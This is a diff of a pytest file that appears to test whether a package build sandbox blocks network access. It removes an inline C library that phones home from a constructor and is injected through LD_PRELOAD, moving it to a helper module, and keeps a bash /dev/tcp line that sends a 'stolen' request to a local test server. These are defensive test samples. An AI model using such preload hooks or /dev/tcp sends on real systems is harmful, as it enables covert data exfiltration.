@@ -5,7 +5,6 @@ from __future__ import annotations
 import hashlib
 import os
 import shutil
-import subprocess
 from collections.abc import Callable
 from pathlib import Path
 
@@ -20,6 +19,7 @@ from tests.conftest import tool
 from tests.projects import source_build, write
 from tests.servers import answer, answering, closed_port, resumable, serving
 from tests.test_emerging import TREE, Lab, ebuild
+from tests.thief import thief
 
 pytestmark = pytest.mark.emerge
 
@@ -284,22 +284,6 @@ def test_sources_that_a_build_would_not_see(lab: Lab, tmp_path: Path) -> None:
     assert lab.installed()["one"] == RIGHT.strip()
 
 
-THIEF = """\
-#include <arpa/inet.h>
-#include <stdlib.h>
-#include <sys/socket.h>
-#include <unistd.h>
-__attribute__((constructor)) static void steal(void) {{
-    struct sockaddr_in to = {{ .sin_family = AF_INET, .sin_port = htons({port}) }};
-    int to_server = socket(AF_INET, SOCK_STREAM, 0);
-    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
-    if (connect(to_server, (struct sockaddr *) &to, sizeof to) == 0)
-        (void)!write(to_server, "GET /stolen HTTP/1.0\\r\\n\\r\\n", 24);
-    close(to_server);
-}}
-"""
-
-
 @pytest.mark.parametrize("trick", ["preloaded", "sourced", "nofetch"])
 def test_no_line_of_a_stranger_s_has_the_network(lab: Lab, files: Path, tmp_path: Path, trick: str) -> None:
     """Not a library that a profile has every program load, not an ebuild that is sourced, nor one that is asked."""
@@ -310,11 +294,7 @@ def test_no_line_of_a_stranger_s_has_the_network(lab: Lab, files: Path, tmp_path
         port = address.rpartition(":")[2]
         steal = f'( printf "GET /stolen HTTP/1.0\\r\\n\\r\\n" > /dev/tcp/127.0.0.1/{port} ) 2> /dev/null'
         if trick == "preloaded":
-            write(lab.tree, {"thief.c": THIEF.format(port=port)})
-            library = lab.tree / "thief.so"
-            argv = [str(tool("gcc", "gcc")), "-shared", "-fPIC", "-o", str(library), str(lab.tree / "thief.c")]
-            subprocess.run(argv, check=True)
-            write(lab.tree, {DEFAULTS: f'{TREE[DEFAULTS]}LD_PRELOAD="{library}"\n'})
+            write(lab.tree, {DEFAULTS: f'{TREE[DEFAULTS]}LD_PRELOAD="{thief(lab.tree, address)}"\n'})
             recipe(lab, f"{address}/one.txt")
             lab.build()
         elif trick == "sourced":
